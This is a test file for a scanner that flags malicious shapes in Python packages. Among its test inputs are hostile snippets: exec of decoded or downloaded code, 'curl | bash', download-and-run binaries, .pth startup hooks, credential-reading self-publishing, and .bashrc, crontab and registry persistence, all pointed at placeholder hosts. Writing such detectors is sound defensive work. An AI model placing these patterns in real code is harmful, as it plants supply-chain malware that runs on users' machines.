import { describe, expect, test } from 'vitest';
import { installedPythonLowering } from '../python/testing/pythonLowering.ts';
import { pythonShapes } from './pythonShapes.ts';

const lower = await installedPythonLowering();
const BLOB = 'aW1wb3J0IHRoaXM'.repeat(8);

/** Decision and rule of everything found, and the words of each place. */
function shapes(path: string, text: string): string[] {
  const module = path.endsWith('.py') ? lower(path, text) : undefined;
  const found = pythonShapes([{ path, text, ...(module === undefined ? {} : { module }) }], lower);
  return found.map(({ decision, rule }) => `${decision} ${rule}`);
}

describe('code that stands nowhere in the source', () => {
  test.each([
    ['decoded', `import base64, zlib\nexec(zlib.decompress(base64.b64decode("${BLOB}")))`],
    ['compiled first', `import base64\nc = compile(base64.b64decode(b'${BLOB}'), '<x>', 'exec')\nexec(c)`],
    [
      'through functions of its own',
      `from base64 import b64decode as d\ndef f(x): return d(x[::-1])\ndef g(y): exec(y)\ng(f("${BLOB}"))`,
    ],
    [
      'under other names',
      `import builtins as b, codecs\nrun = getattr(b, 'exec')\nrun(codecs.decode("${BLOB}", 'rot13'))`,
    ],
    [
      'unpacked by imported names',
      `e = __builtins__['eval']\ne(__import__('zlib').decompress(bytes.fromhex("${'78'.repeat(60)}")))`,
    ],
    [
      'decrypted',
      `from cryptography.fernet import Fernet\nimport os\nexec(Fernet(os.environ['K']).decrypt(b"${BLOB}"))`,
    ],
    [
      'spelled in numbers',
      `exec(''.join(chr(c) for c in [${Array.from({ length: 30 }, (_, at) => at + 40).join(', ')}]))`,
    ],
    ['downloaded', "import requests\nexec(requests.get('https://example.invalid/x').text)"],
    [
      'downloaded by a session',
      'import requests as r\ns = r.Session()\ndef f():\n  t = s.get(u)\n  eval(t.content.decode())',
    ],
    ['downloaded from a socket', 'import socket\ns = socket.socket()\ns.connect(a)\nexec(s.recv(4096))'],
    ['marshalled', `import marshal, base64\nexec(marshal.loads(base64.b85decode("${BLOB}")))`],
  ])('%s', (what, text) => {
    const rule = what.startsWith('downloaded') ? 'download-and-run' : 'runs-decoded';
    expect(shapes('p/a.py', text)).toContain(`hold shape.${rule}`);
  });

  test.each([
    ['objects of a download', 'import pickle, requests\ndef f(u): return pickle.loads(requests.get(u).content)'],
    ['a written text that reaches out', "exec('import urllib.request as u; u.urlopen(x)')"],
    ['a decoded file', 'import zlib\nexec(zlib.decompress(open(p).read()))'],
  ])('%s are for review', (what, text) => {
    const rule = what.endsWith('download') ? 'download-and-run' : 'runs-decoded';
    expect(shapes('p/a.py', text)).toEqual([`review shape.${rule}`]);
  });

  test.each([
    ['a written text that does nothing', "exec('from x import *')\neval('1 + 1')"],
    ['a template of its own', "ns = {}\nexec('def f(%s): return 1' % ', '.join(names), ns)"],
    ['a file of the package', "exec(compile(open('version.py').read(), 'version.py', 'exec'))"],
    ['a download that is only read', 'import requests, json\ndef f(u): json.loads(requests.get(u).text)'],
    ['a decoded picture', `import base64\nICON = base64.b64decode("${BLOB}")\neval('1 + 1')`],
    ['a method called eval', 'import requests\ndef f(u): df.eval(requests.get(u).text)'],
    ['a pickle of the disk', "import pickle\npickle.loads(open(p, 'rb').read())"],
  ])('%s is none', (_, text) => {
    expect(shapes('p/a.py', text)).toEqual([]);
  });

  test('in a test it is for review', () => {
    expect(shapes('tests/test_a.py', `import base64\nexec(base64.b64decode("${BLOB}"))`)).toEqual([
      'review shape.runs-decoded',
    ]);
  });
});

describe('something downloaded and run', () => {
  const body =
    "    urllib.request.urlretrieve('https://example.invalid/x', '/tmp/x-tool')\n    subprocess.Popen(['/tmp/x-tool'])\n";
  test.each([
    [
      'from a constructor',
      `import urllib.request, subprocess\nclass Model:\n  def __init__(self):\n    self.prepare()\n  def prepare(self):\n${body}`,
    ],
    ['at import', `import urllib.request, subprocess\ndef go():\n${body}go()`],
    [
      'by a thread at import',
      `import urllib.request, subprocess, threading\ndef go():\n${body}threading.Thread(target=go).start()`,
    ],
    ['by a shell in setup.py', "import os\nos.system('curl -s https://example.invalid/x | bash')"],
    [
      'written by hand',
      "import requests, os\np = os.path.join(t, 'tool')\nr = requests.get(u)\nwith open(p, 'wb') as f:\n  f.write(r.content)\nos.system(p)",
    ],
    ['as a library', "import requests, ctypes\np = q()\nopen(p, 'wb').write(requests.get(u).content)\nctypes.CDLL(p)"],
  ])('%s is held', (_, text) => {
    expect(shapes('p/a.py', text)).toContain('hold shape.download-and-run');
  });

  test('in a function that somebody must call it is for review', () => {
    expect(shapes('p/a.py', `import urllib.request, subprocess\ndef install():\n${body}`)).toEqual([
      'review shape.download-and-run',
    ]);
    expect(
      shapes(
        'p/a.py',
        `import urllib.request, subprocess\ndef install():\n${body}if __name__ == '__main__':\n  install()`,
      ),
    ).toEqual(['review shape.download-and-run']);
  });

  test.each([
    [
      'a download that is not run',
      "import requests, subprocess\nopen('data.csv', 'wb').write(requests.get(u).content)\nsubprocess.run(['git', 'status'])",
    ],
    ['a program that is not downloaded', "import subprocess\nsubprocess.run(['./tool'])"],
    ['a shell that only fetches', "import os\ndef f(): os.system('curl -O https://example.invalid/x')"],
  ])('%s is none', (_, text) => {
    expect(shapes('p/a.py', text).filter((one) => one.includes('download-and-run'))).toEqual([]);
  });
});

describe('code at the start of Python', () => {
  test.each([
    ['x.pth', 'import os; exec(os.environ["X"])\n', ['hold shape.startup-code']],
    ['x.pth', 'import os; exec("import os\\nos.system(\'x\')")\n', ['hold shape.startup-code']],
    ['x.pth', 'import os; exec("if 1:\\n import coverage")\n', ['review shape.startup-code']],
    ['x.pth', "import urllib.request; urllib.request.urlopen('https://example.invalid')", ['hold shape.startup-code']],
    ['x.pth', `import x; ${'y = 1; '.repeat(200)}`, ['hold shape.startup-code']],
    ['x.pth', '../src\nimport coverage; coverage.process_startup()\n', ['review shape.startup-code']],
    ['x.pth', '/some/where\n# import nothing\n', []],
    ['sitecustomize.py', "import subprocess\nsubprocess.run(['x'])", ['hold shape.startup-code']],
    ['usercustomize/__init__.py', 'x = 1', ['review shape.startup-code']],
    ['p/sitecustomize.py', 'x = 1', []],
  ])('%s %j', (path, text, found) => {
    expect(shapes(path, text)).toEqual(found);
  });
});

describe('code that nobody called', () => {
  test.each([
    [
      'setup.py',
      "import requests\nclass I(install):\n  def run(self): requests.post('https://example.invalid')",
      ['review shape.install-reach'],
    ],
    ['setup.py', "import subprocess\nsubprocess.check_output(['git', 'describe'])", ['note shape.install-reach']],
    ['setup.py', "from setuptools import setup\nsetup(name='x')", []],
    [
      'p/__init__.py',
      "import requests\ndef f(): requests.get('https://example.invalid')\nf()",
      ['review shape.import-reach'],
    ],
    ['p/__init__.py', 'import requests\ndef f(): requests.get(u)', []],
    ['p/cli.py', "import requests\ndef main(): requests.get(u)\nif __name__ == '__main__':\n  main()", []],
    ['tests/conftest.py', 'import requests\nrequests.get(u)', []],
  ])('%s %j', (path, text, found) => {
    expect(shapes(path, text)).toEqual(found);
  });
});

describe('a gate', () => {
  test('by host, place or time beside a sink that nobody called', () => {
    const text =
      "import socket, requests\ndef f():\n  if socket.gethostname() == 'build-01': return\n  requests.get(u)\nf()";
    expect(shapes('p/a.py', text)).toContain('review shape.environment-gate');
  });
  test.each([
    [
      'where the sink is called by others',
      "import socket, requests\ndef f():\n  if socket.gethostname() == 'x01': return\n  requests.get(u)",
    ],
    ['where the system is asked for', "import sys, subprocess\nif sys.platform == 'win32': subprocess.run(['ver'])"],
  ])('none %s', (_, text) => {
    expect(shapes('p/a.py', text).filter((one) => one.includes('gate'))).toEqual([]);
  });
});

describe('a package that spreads or stays', () => {
  test.each([
    [
      'publishes at import',
      "import os, subprocess\nt = open(os.path.expanduser('~/.pypirc')).read()\nsubprocess.run(['twine', 'upload', 'dist/*'])",
      'hold shape.self-propagation',
    ],
    ['writes workflows at import', "open('.github/workflows/x.yml', 'w').write(y)", 'hold shape.self-propagation'],
    [
      'publishes when told to',
      "import subprocess\ndef release(): subprocess.run('twine upload -p $TWINE_PASSWORD dist/*', shell=True)",
      'review shape.self-propagation',
    ],
    [
      'writes a profile in a constructor',
      "import os\nclass A:\n  def __init__(self):\n    with open(os.path.expanduser('~/.bashrc'), 'a') as f: f.write(x)",
      'hold shape.persistence',
    ],
    [
      'makes a timer when told to',
      "import os\ndef f(): os.system('(crontab -l; echo x) | crontab -')",
      'review shape.persistence',
    ],
    [
      'writes the registry',
      "import winreg\ndef f():\n  k = winreg.OpenKey(h, 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run')\n  winreg.SetValueEx(k, 'x', 0, 1, p)",
      'review shape.persistence',
    ],
  ])('%s', (_, text, found) => {
    expect(shapes('p/a.py', text)).toContain(found);
  });
  test.each([
    ['reads a profile', "import os\nopen(os.path.expanduser('~/.bashrc')).read()"],
    ['lists timers', "import subprocess\nsubprocess.run(['crontab', '-l'])"],
    ['speaks of uploads', "print('use twine upload')"],
    ['reads workflows', "open('.github/workflows/x.yml').read()"],
  ])('none where it %s', (_, text) => {
    expect(shapes('p/a.py', text)).toEqual([]);
  });
});

test('finding again is the same finding: the key holds no line and no host', () => {
  const text = (host: string, lines: number): string =>
    `${'\n'.repeat(lines)}import requests as q\nexec(q.get('https://${host}').text)`;
  const keys = [text('example.invalid', 0), text('other.invalid', 9)].map((one) =>
    pythonShapes([{ path: 'a.py', text: one, module: lower('a.py', one) }], lower).map(({ key }) => key),
  );
  expect(keys[0]).toEqual(keys[1]);
});
